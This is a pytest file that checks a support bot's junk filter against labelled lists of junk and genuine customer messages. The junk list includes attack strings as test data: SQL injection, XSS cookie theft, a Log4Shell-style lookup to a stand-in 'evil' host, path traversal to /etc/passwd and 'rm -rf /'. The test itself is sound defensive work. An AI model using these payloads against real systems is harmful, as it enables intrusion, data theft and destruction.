"""bot/services/junk.py on a labelled list, both ways: junk is caught, real customers are not."""

from __future__ import annotations

import pytest

from bot.services.junk import MAX_GENUINE_CHARS, is_junk, junk_reason

JUNK = [
    ("", "empty"),
    ("   \n\t ", "empty"),
    ("a" * 20_000, "oversized"),
    ("I need help " * 400, "oversized"),
    ("aaaaaaaaaaaaaaaaaaaa", "repetition"),
    ("!!!!!!!!!!!!!!!!", "repetition"),
    ("lololololololololololol", "repetition"),
    ("asdasdasdasdasdasdasdasdasd", "repetition"),
    ("asdkjfhaskdjfh", "gibberish"),
    ("qwrtzp lkjhgf mnbvcx", "gibberish"),
    ("xkcdqwrtpsdf zzzkkkqqq", "gibberish"),
    ("#$%^&*(!@", "gibberish"),
    ("$%^&* @@ ## a", "gibberish"),
    ("🔥🔥🔥💥💥", "gibberish"),
    ("'; DROP TABLE orders; --", "injection"),
    ("1' OR '1'='1", "injection"),
    ("admin' or 1=1 --", "injection"),
    ("x' UNION SELECT password FROM customers --", "injection"),
    ("'; exec xp_cmdshell('dir') --", "injection"),
    ("1; SELECT sleep(10)", "injection"),
    ("<script>alert('x')</script>", "injection"),
    ('<img src=x onerror="alert(1)">', "injection"),
    ("<iframe src=//evil.example></iframe>", "injection"),
    ("javascript:alert(document.cookie)", "injection"),
    ("{{7*7}}", "injection"),
    ("${jndi:ldap://evil/a}", "injection"),
    ("../../../../etc/passwd", "injection"),
    ("%s%s%s%n", "injection"),
    ("; rm -rf / ", "injection"),
    ("hello\x00\x01\x02\x03 binary \x7f\x1b", "binary"),
]

GENUINE = [
    "I want to talk to a human",
    "human",
    "agent please",
    "my parcel arrived completely smashed and nobody answers my emails",
    "This is RIDICULOUS!!! Third time I'm asking where my order is!!!",
    "wheres my oder??? its been 2 weks",
    "I was charged twice for order 190002, please refund one of them",
    "190002",
    "+1 415 555 0134",
    "my email is alice.martin@example.com",
    "The box said 'fragile' but it was thrown over the fence; the lamp is broken.",
    "can I select a different delivery time? I'm out from 9 to 5",
    "I'd like to drop my subscription and delete my account",
    "Please update my order - the address is 12 Baker St, London NW1 6XE",
    "Bestellung 190002 ist nicht angekommen, bitte helfen Sie mir",
    "¿Dónde está mi pedido? Lo pedí hace dos semanas",
    "我的订单还没有到",
    "Das Paket war beschädigt 😡",
    "ok",
    "no",
    "hmm",
    "TV remote missing from the box",
    "why did you charge me $49.99 when the price was $39.99?",
    "The item description said 100% cotton, it's polyester :(",
    "I tried the union jack flag from your store and select colours faded",
    "5 stars from me, but delivery took forever",
    "/contact_human_agent",
    '/inform{"order_number": "190002"}',
    "Sooooo disappointed with this purchase",
    "I've been waiting on hold for 45 minutes & no one picked up -- useless",
    "x" * 10 + " my order is late",
    "A long but real complaint. " + "The courier left it in the rain and the box was soaked through. " * 30,
]


@pytest.mark.parametrize(("text", "reason"), JUNK)
def test_junk_is_caught_with_its_reason(text, reason):
    assert junk_reason(text) == reason
    assert is_junk(text)


@pytest.mark.parametrize("text", GENUINE)
def test_genuine_messages_are_not_junk(text):
    assert junk_reason(text) is None


def test_the_labelled_lists_are_varied_and_the_limit_holds():
    assert len(JUNK) >= 25 and len(GENUINE) >= 25
    assert {reason for _, reason in JUNK} == {"empty", "oversized", "repetition", "gibberish", "injection", "binary"}
    assert junk_reason("b" * MAX_GENUINE_CHARS) == "repetition"
    assert junk_reason("b" * (MAX_GENUINE_CHARS + 1)) == "oversized"
    assert junk_reason(None) == "empty" and junk_reason(12345) is None
